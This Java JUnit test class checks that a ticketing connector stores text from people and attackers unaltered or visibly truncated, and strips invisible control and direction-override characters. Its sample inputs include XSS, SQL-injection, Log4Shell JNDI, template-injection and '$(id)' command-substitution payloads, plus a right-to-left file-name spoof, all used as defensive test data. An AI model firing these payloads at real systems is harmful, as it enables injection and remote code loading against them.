package io.epmjit.connector.contract;

import static io.epmjit.connector.contract.Lab.KEY;
import static io.epmjit.connector.contract.Lab.STAMP;
import static io.epmjit.connector.contract.Rule.rule;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.epmjit.connector.TicketDraft;
import io.epmjit.connector.TicketField;
import io.epmjit.connector.TicketSection;
import io.epmjit.connector.contract.TicketConnectorContract.Given;
import io.epmjit.model.JitRequestRef;
import io.epmjit.model.TicketRef;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Whatever people, files and attackers have written stays text, and arrives whole or visibly cut. */
final class TextRules {

    private static final String BEGINNING = "Ybeginning";
    private static final String END = "Yend";

    /** What a value ends with that was too long. */
    private static final String CUT = "…";

    /** Controls but line ends and tabs, halves of characters, and what turns the direction of writing. */
    private static final Pattern UNSEEN =
            Pattern.compile("[\\p{Cc}&&[^\\n\\r\\t]]|\\p{Cs}|[\\u200E\\u200F\\u202A-\\u202E\\u2066-\\u2069]");

    private static final Pattern BLANKS = Pattern.compile("\\s+");

    private record Sample(String name, String value, boolean isPlain) {

        String enclosed() {
            return BEGINNING + " " + value + " " + END;
        }
    }

    private static final List<Sample> SAMPLES = List.of(
            plain("words of many scripts", "Grüße, שלום, 漢字, \uD83D\uDE00 \uD83D\uDC4D\uD83C\uDFFD, e\u0301"),
            plain(
                    "wiki markup",
                    "*b* _i_ {code}x{code} {noformat} {quote} [t|http://evil.example] !i.png! ||h|| h1. h \\\\ {color:red}c{color}"),
            plain(
                    "Markdown",
                    "**b** _i_ ``` ~~~~~ `c` [t](http://evil.example) ![i](http://evil.example/i.png) @admin #1 <!-- c -->"),
            plain("Markdown in several lines", "a\n# h\n\n- [x] t\n```\n~~~~\n</details>\n> q\n\n| a |\n|---|"),
            plain("HTML", "<script>alert(1)</script> <img src=x onerror=alert(1)> &lt;b&gt; &#65; ]]> <!--"),
            plain(
                    "queries and templates",
                    "\" OR 1=1 -- ' ^ORDERBYx \\ ; ${jndi:ldap://evil.example} %%User%% {{7*7}} $(id)"),
            plain("JSON", "\",\"public\":true,\"x\":\"\\u0041 \\\" }}]"),
            hostile("control characters", "a\u0000b\u0007c\u001B[31md\u007Fe\u0085f\bg\u009Fh"),
            hostile("marks that turn the direction of writing", "invoice\u202Egpj.exe\u202C \u2066a\u2069 \u200Fb"),
            hostile("halves of characters", "a\uD83D b\uDE00 \uDE00\uD83D c"),
            hostile("lines of every kind", "a\r\nb\rc\n\n\nd\u2028e\u2029f"),
            hostile("very many lines", "a\n".repeat(20_000)),
            hostile("very long text", "long ".repeat(20_000)),
            hostile("very long text without a blank", "x".repeat(100_000)),
            hostile("very long text of wide characters", "\uD83D\uDE00".repeat(40_000)),
            hostile("the same, one to the right", "x" + "\uD83D\uDE00".repeat(40_000)));

    private TextRules() {}

    private static Sample plain(String name, String value) {
        return new Sample(name, value, true);
    }

    private static Sample hostile(String name, String value) {
        return new Sample(name, value, false);
    }

    static Stream<Rule> all(Given given) {
        Stream<Rule> tickets = SAMPLES.stream()
                .flatMap(sample -> Stream.of(
                        rule("of a detail: " + sample.name(), lab -> detail(lab, sample)),
                        rule("everywhere in a ticket: " + sample.name(), lab -> everywhere(lab, sample))));
        Stream<Rule> notes = SAMPLES.stream()
                .flatMap(sample -> Stream.of(
                        rule("of a note: " + sample.name(), lab -> note(lab, sample)),
                        rule("of a note's detail: " + sample.name(), lab -> noteDetail(lab, sample))));
        Stream<Rule> many = Stream.of(rule("of very many details", TextRules::manyDetails));
        return Stream.of(tickets, given.hasNotes() ? notes : Stream.<Rule>of(), many)
                .flatMap(rules -> rules);
    }

    private static void detail(Lab lab, Sample sample) {
        lab.connector.open(Lab.draftWith(STAMP, sample.enclosed()), lab.call());

        assertArrived(lab.theTicket().text(), sample);
        assertStillFound(lab);
    }

    private static void everywhere(Lab lab, Sample sample) {
        String text = sample.enclosed();
        TicketDraft draft = TicketDraft.builder()
                .stamp(STAMP)
                .request(JitRequestRef.application("1f6e22a4"))
                .placeholders(Map.of("User", text, "HostName", text, "Reason", text, "TicketNumber", ""))
                .addSections(new TicketSection(text, List.of(new TicketField(text, text))))
                .notice(text)
                .requester(text)
                .build();

        lab.connector.open(draft, lab.call());

        StoredTicket ticket = lab.theTicket();
        assertFalse(ticket.title().isBlank(), "the ticket has a title");
        assertEquals(1, ticket.title().lines().count(), "lines of the title");
        assertNothingUnseen(ticket.title());
        assertNothingUnseen(ticket.text());
        assertStillFound(lab);
    }

    private static void note(Lab lab, Sample sample) {
        TicketRef ticket = lab.open();

        lab.connector.note(ticket, Lab.noteWith(KEY, sample.enclosed(), "none"), lab.call());

        assertNoteArrived(lab, ticket, sample);
    }

    private static void noteDetail(Lab lab, Sample sample) {
        TicketRef ticket = lab.open();

        lab.connector.note(ticket, Lab.noteWith(KEY, "Approved.", sample.enclosed()), lab.call());

        assertNoteArrived(lab, ticket, sample);
    }

    private static void manyDetails(Lab lab) {
        List<TicketField> fields = new ArrayList<>();
        fields.add(new TicketField("First", BEGINNING));
        IntStream.range(0, 2_000).forEach(i -> fields.add(new TicketField("Detail " + i, "value ".repeat(20))));
        fields.add(new TicketField("Last", END));
        TicketDraft draft = TicketDraft.builder()
                .stamp(STAMP)
                .request(JitRequestRef.application("1f6e22a4"))
                .addSections(new TicketSection("Request", fields))
                .build();

        lab.connector.open(draft, lab.call());

        assertArrived(lab.theTicket().text(), hostile("very many details", ""));
        assertStillFound(lab);
    }

    private static void assertNoteArrived(Lab lab, TicketRef ticket, Sample sample) {
        StoredNote note = lab.stored(ticket).notes().get(0);
        assertTrue(note.isInternal(), "only the tracker's own staff see it");
        assertArrived(note.text(), sample);
        assertEquals(1, lab.found(lab.findNote(ticket, KEY)).size(), "notes found");
    }

    private static void assertStillFound(Lab lab) {
        lab.waitForTheSearch();
        assertEquals(1, lab.found(lab.find(STAMP)).size(), "tickets found");
    }

    private static void assertArrived(String text, Sample sample) {
        assertNothingUnseen(text);
        assertTrue(text.contains(BEGINNING), "the value begins as it should");
        assertTrue(
                text.contains(END) || text.contains(CUT),
                "the value ends as it should, or what is cut ends with " + CUT);
        if (sample.isPlain()) {
            assertTrue(
                    withoutBlanks(text).contains(withoutBlanks(sample.enclosed())),
                    () -> "people read what was written, and nothing of it is taken for markup: " + text);
        }
    }

    private static void assertNothingUnseen(String text) {
        UNSEEN.matcher(text).results().findFirst().ifPresent(unseen -> {
            throw new AssertionError(
                    "what cannot be seen is shown in another way, or left out, but there is " + codeOf(unseen.group()));
        });
    }

    private static String codeOf(String character) {
        return String.format("U+%04X", character.codePointAt(0));
    }

    private static String withoutBlanks(String text) {
        return BLANKS.matcher(text).replaceAll("");
    }
}
